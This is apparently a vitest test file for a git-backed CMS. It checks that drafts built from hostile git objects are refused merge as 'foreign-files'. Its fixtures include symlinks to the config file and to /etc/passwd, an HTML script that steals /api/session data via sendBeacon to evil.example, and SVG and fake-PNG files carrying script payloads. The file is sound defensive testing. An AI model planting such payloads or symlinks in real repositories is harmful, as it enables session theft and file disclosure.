import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApiClient } from '../support/api-client';
import { blog, modeOf, oidOrEmpty, onGitHub, openHostPull, revParse } from '../support/drafts';
import { gitShow } from '../support/git-read';
import type { TestService } from '../support/local-service';
import { pngBytes } from '../support/media';
import { signedInService } from '../support/signed-in';

/**
 * Issue #30: a publish-only token merged pull requests on `cms/posts/<slug>` branches that a
 * collaborator built with git objects: the item as a symbolic link, a linked media file, an HTML
 * file named by the post. A draft's files are regular blobs and its media pass the rules of
 * uploads, read at the head the merge is guarded by; anything else is `foreign-files`.
 */
let service: TestService;
let api: ApiClient;
let demo: string;
/** A token that may only publish, as an automation would hold. */
let publisher: string;

beforeAll(async () => {
  ({ service, api, session: demo } = await signedInService());
  publisher = (
    await api.createToken(demo, { repos: ['demo/blog'], permissions: ['content:publish'] })
  ).token;
});
afterAll(async () => {
  await service?.stop();
});

type Entry = { path: string; mode: '100644' | '100755' | '120000'; content: string | Buffer };

/**
 * What alice, a collaborator with write access, can do with GitHub's Git Data API: blobs, a tree
 * on main's, a commit, the branch `cms/posts/{slug}`, and a pull request into main.
 */
async function hostileDraft(slug: string, entries: Entry[]): Promise<number> {
  const main = revParse(service, 'demo/blog', 'main');
  const tree = [];
  for (const entry of entries) {
    const bytes = Buffer.isBuffer(entry.content) ? entry.content : Buffer.from(entry.content);
    const blob = (await onGitHub(service.github, 'alice', 'POST', '/repos/demo/blog/git/blobs', {
      content: bytes.toString('base64'),
      encoding: 'base64',
    })) as { sha: string };
    tree.push({ path: entry.path, mode: entry.mode, type: 'blob', sha: blob.sha });
  }
  const created = (await onGitHub(service.github, 'alice', 'POST', '/repos/demo/blog/git/trees', {
    base_tree: revParse(service, 'demo/blog', 'main^{tree}'),
    tree,
  })) as { sha: string };
  const commit = (await onGitHub(service.github, 'alice', 'POST', '/repos/demo/blog/git/commits', {
    message: `Draft ${slug}`,
    tree: created.sha,
    parents: [main],
  })) as { sha: string };
  await onGitHub(service.github, 'alice', 'POST', '/repos/demo/blog/git/refs', {
    ref: `refs/heads/cms/posts/${slug}`,
    sha: commit.sha,
  });
  return openHostPull(service, { head: `cms/posts/${slug}`, title: `Draft ${slug}` });
}

const post = (title: string, body: string, extra = '') =>
  `---\ntitle: ${title}\ndate: 2025-01-01\n${extra}---\n${body}\n`;

/** The blockers the pull request's read names, and the merge's answer to the publish-only token. */
async function refused(number: number) {
  const main = revParse(service, 'demo/blog', 'main');
  const detail = await api.get(`${blog}/pulls/${number}`, { session: demo });
  expect(detail.status).toBe(200);
  const merge = await api.put(`${blog}/pulls/${number}/merge`, {}, { token: publisher });
  expect(revParse(service, 'demo/blog', 'main')).toBe(main);
  return {
    blockers: detail.body.mergeBlockers as { reason: string; message: string }[],
    merge: { status: merge.status, body: merge.body },
  };
}

describe('a draft whose files are not what the CMS writes is never merged', () => {
  it.each([
    [
      'its item is a symbolic link to the config',
      'linked-item',
      [{ path: 'content/posts/linked-item.md', mode: '120000', content: '../../cms.config.json' }],
      'content/posts/linked-item.md (a symbolic link)',
    ],
    [
      'a media file its post references is a symbolic link out of the repository',
      'linked-media',
      [
        {
          path: 'content/posts/linked-media.md',
          mode: '100644',
          content: post('Linked media', '![secret](/media/secret.png)'),
        },
        { path: 'static/media/secret.png', mode: '120000', content: '../../../../etc/passwd' },
      ],
      'static/media/secret.png (a symbolic link)',
    ],
    [
      'its post references an HTML file it adds to the media directory',
      'html-media',
      [
        {
          path: 'content/posts/html-media.md',
          mode: '100644',
          content: post(
            'HTML media',
            'See [the page](/media/evil.html).',
            'cover: /media/evil.html\n',
          ),
        },
        {
          path: 'static/media/evil.html',
          mode: '100644',
          content:
            '<script>fetch("/api/session").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example/", t))</script>\n',
        },
      ],
      'static/media/evil.html (".html" is not an accepted media type)',
    ],
    [
      'an SVG it adds holds a script under another prefix',
      'svg-media',
      [
        {
          path: 'content/posts/svg-media.md',
          mode: '100644',
          content: post('SVG media', '![logo](/media/logo.svg)'),
        },
        {
          path: 'static/media/logo.svg',
          mode: '100644',
          content:
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>\n',
        },
      ],
      'static/media/logo.svg (an SVG holding a <script> element (line 1))',
    ],
    [
      'a .png it adds holds HTML',
      'fake-png',
      [
        {
          path: 'content/posts/fake-png.md',
          mode: '100644',
          content: post('Fake PNG', '![x](/media/fake.png)'),
        },
        {
          path: 'static/media/fake.png',
          mode: '100644',
          content: '<html><script>alert(1)</script></html>\n',
        },
      ],
      'static/media/fake.png (its bytes are of no accepted media type)',
    ],
    [
      'its item is executable',
      'executable-item',
      [
        {
          path: 'content/posts/executable-item.md',
          mode: '100755',
          content: post('Executable', 'Body.'),
        },
      ],
      'content/posts/executable-item.md (executable (mode 100755), as it is not on the default branch)',
    ],
    [
      'its post only mentions the file it adds, in a code span and a sentence',
      'mentioned-media',
      [
        {
          path: 'content/posts/mentioned-media.md',
          mode: '100644',
          content: post('Mentioned', 'Upload `/media/notes.png` later, or static/media/notes.png.'),
        },
        { path: 'static/media/notes.png', mode: '100644', content: pngBytes() },
      ],
      'static/media/notes.png (its item does not reference it)',
    ],
  ] as [string, string, Entry[], string][])(
    'when %s: foreign-files in mergeBlockers, 409 to a publish-only token, nothing on main',
    async (_what, slug, entries, why) => {
      const number = await hostileDraft(slug, entries);
      const { blockers, merge } = await refused(number);
      expect(blockers).toEqual([
        { reason: 'foreign-files', message: expect.stringContaining(why) },
      ]);
      expect(merge).toEqual({
        status: 409,
        body: { merged: false, reason: 'foreign-files', error: expect.stringContaining(why) },
      });
      for (const entry of entries)
        expect(oidOrEmpty(service, 'demo/blog', `main:${entry.path}`)).toBe('');
    },
  );
});

describe('a genuine draft built with git objects', () => {
  it('keeps its regular files and the PNG its cover field references: no blockers, and a publish-only token merges it', async () => {
    const item = post('With a picture', 'A picture below.', 'cover: /media/sunrise.png\n');
    const number = await hostileDraft('with-picture', [
      { path: 'content/posts/with-picture.md', mode: '100644', content: item },
      { path: 'static/media/sunrise.png', mode: '100644', content: pngBytes(200) },
    ]);
    expect(
      (await api.get(`${blog}/pulls/${number}`, { session: demo })).body.mergeBlockers,
    ).toEqual([]);
    // The pull request with its files, the files it keeps (one query), the picture's bytes, the merge, the branch's deletion.
    service.github.resetRequestCount();
    const merge = await api.put(`${blog}/pulls/${number}/merge`, {}, { token: publisher });
    expect(service.github.requestCount()).toBe(5);
    expect(merge.status, JSON.stringify(merge.body)).toBe(200);
    expect(gitShow(service.github, 'demo/blog', 'main:content/posts/with-picture.md')).toBe(item);
    expect(modeOf(service, 'demo/blog', 'main', 'static/media/sunrise.png')).toBe('100644');
  });
});
